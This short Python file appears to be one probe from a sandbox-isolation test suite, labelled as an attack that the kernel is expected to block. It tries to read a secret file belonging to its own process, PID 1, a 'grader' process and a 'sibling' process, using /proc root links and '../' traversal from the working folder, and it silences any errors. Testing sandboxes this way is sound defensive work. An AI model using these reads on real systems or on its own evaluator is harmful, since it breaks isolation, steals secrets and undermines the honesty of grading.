"""The roots and working folders that /proc shows of this and of other processes."""

# /// attack
# held_by = "kernel"
# alone = true
# ///

for process in ("self", "1", str(TARGETS["grader"]), str(TARGETS["sibling"])):
    for place in ("root", "cwd/../../../../../.."):
        try:
            loot = loot or open(f"/proc/{process}/{place}{TARGETS['secret']}").read()
        except OSError:
            pass
